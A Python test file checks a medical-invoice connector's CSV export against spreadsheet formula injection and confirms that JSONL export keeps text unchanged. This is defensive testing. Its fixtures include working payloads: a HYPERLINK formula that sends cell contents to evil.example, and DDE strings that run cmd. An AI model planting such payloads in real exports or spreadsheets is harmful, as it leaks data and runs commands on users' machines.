"""`connector export -f csv` against CSV (formula) injection: vendor text that a spreadsheet would
run as a formula is written with a leading `'`, numbers stay numbers, and the jsonl export keeps
the text exactly as stored."""

from __future__ import annotations

import csv
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

from connector.cli.export import CSV_COLUMNS
from connector.model import Category, Invoice, InvoiceStatus, LineItem, Patient
from connector.store import Accepted, Store
from tests.conftest import invoke_cli, write_config

SOURCE = "clinic"
# OWASP's formula-leading characters, each with a payload a spreadsheet would act on.
DANGEROUS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-12 discount",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# Text columns the test fills with a dangerous value; the others hold fixed, harmless words.
ATTACKED = ("invoice_number", "facility", "patient_name", "policy_number", "description")
NUMERIC = ("total_amount", "line_no", "quantity", "unit_price", "item_total")
CREDIT = Decimal("-20.00")


def item(description: str, unit_price: Decimal, quantity: Decimal = Decimal(1)) -> LineItem:
    return LineItem(
        category=Category.LABORATORY,
        description=description,
        quantity=quantity,
        unit_price=unit_price,
        total=quantity * unit_price,
    )


def invoice(invoice_id: str, text: str, items: tuple[LineItem, ...]) -> Invoice:
    return Invoice(
        source=SOURCE,
        id=invoice_id,
        invoice_number=text,
        invoice_date=date(2025, 3, 1),
        total_amount=sum((i.total for i in items), Decimal(0)),
        currency="USD",
        status=InvoiceStatus.PAID,
        source_status="paid",
        facility=text,
        patient=Patient(name=text, policy_number=text),
        items=items,
    )


def stored_invoices() -> list[Invoice]:
    """One invoice per dangerous lead (every attacked text cell starts with it, its first line a
    credit so the amounts are negative), and one ordinary invoice."""
    ordinary_line = item("Full Blood Count", Decimal("10.00"), Decimal("1.5"))
    attacked = [
        invoice(f"inv-{n}", payload, (item(payload, CREDIT), ordinary_line))
        for n, payload in enumerate(DANGEROUS.values())
    ]
    # Formula characters inside the text, not leading it, are harmless and stay as they are.
    plain = "St Mary's = Clinic + Lab - North @ 2"
    return [*attacked, invoice("plain", plain, (item("X-ray, chest", Decimal("80.00")),))]


def export(tmp_path: Path, store_url: str, fmt: str) -> Path:
    invoices = stored_invoices()
    with Store(store_url) as store:
        run = store.start_run(SOURCE, "sync", None)
        accepted = [Accepted(inv, inv.content_hash()) for inv in invoices]
        store.write_batch(run, SOURCE, accepted, [], fetched=len(accepted), resume=None)
    source = {"type": "meditrak_import", "name": SOURCE, "base_url": "http://127.0.0.1:9/api/",
              "api_key": "k"}  # fmt: skip
    config = write_config(
        tmp_path / "connector.yaml", {"store": {"url": store_url}, "sources": [source]}
    )
    output = tmp_path / f"items.{fmt}"
    done = invoke_cli(config, "export", "-f", fmt, "-o", str(output))
    assert done.exit_code == 0, done.output
    return output


def cells(inv: Invoice, line_no: int) -> dict[str, str | None]:
    """The stored text of the attacked columns of one row."""
    line = inv.items[line_no - 1]
    return {
        "invoice_number": inv.invoice_number,
        "facility": inv.facility,
        "patient_name": inv.patient.name,
        "policy_number": inv.patient.policy_number,
        "description": line.description,
    }


def test_formula_leading_text_cells_are_neutralised_and_numbers_stay_numbers(
    tmp_path: Path, store_url: str
) -> None:
    output = export(tmp_path, store_url, "csv")
    with output.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
        rows = {(row["id"], int(row["line_no"])): row for row in reader}
    by_id = {inv.id: inv for inv in stored_invoices()}
    expected_rows = {(i.id, n) for i in by_id.values() for n in range(1, len(i.items) + 1)}
    assert set(rows) == expected_rows

    neutralised = 0
    for (invoice_id, line_no), row in rows.items():
        inv = by_id[invoice_id]
        for column, stored in cells(inv, line_no).items():
            assert stored is not None
            if stored[0] in DANGEROUS:
                assert row[column] == "'" + stored, (column, row[column])
                neutralised += 1
            else:
                assert row[column] == stored, (column, row[column])
        # Closed vocabularies and ordinary words are written as they are.
        assert (row["source"], row["status"], row["currency"]) == (SOURCE, "paid", "USD")
        assert row["category"] == "laboratory"
        # Number columns are never prefixed: a credit stays a negative number.
        line = inv.items[line_no - 1]
        assert row["invoice_date"] == "2025-03-01"
        assert Decimal(row["total_amount"]) == inv.total_amount
        assert Decimal(row["quantity"]) == line.quantity
        assert Decimal(row["unit_price"]) == line.unit_price
        assert Decimal(row["item_total"]) == line.total
        assert all(not row[column].startswith("'") for column in NUMERIC)
    # Every dangerous lead in every attacked column: 4 invoice-level columns on both lines of
    # each attacked invoice, plus the description of its credit line.
    assert neutralised == len(DANGEROUS) * (len(ATTACKED) - 1) * 2 + len(DANGEROUS)
    credits = [row for row in rows.values() if row["item_total"].startswith("-")]
    assert len(credits) == len(DANGEROUS)
    assert all(Decimal(row["item_total"]) == CREDIT for row in credits)
    assert all(Decimal(rows[(f"inv-{n}", 1)]["total_amount"]) < 0 for n in range(len(DANGEROUS)))


def test_jsonl_export_keeps_the_text_exactly_as_stored(tmp_path: Path, store_url: str) -> None:
    output = export(tmp_path, store_url, "jsonl")
    records = {r["id"]: r for r in map(json.loads, output.read_text("utf-8").splitlines())}
    for inv in stored_invoices():
        record = records[inv.id]
        assert record["invoice_number"] == inv.invoice_number
        assert record["facility"] == inv.facility
        assert record["patient"] == {
            "name": inv.patient.name,
            "policy_number": inv.patient.policy_number,
        }
        assert [i["description"] for i in record["items"]] == [i.description for i in inv.items]
        assert Decimal(record["total_amount"]) == inv.total_amount
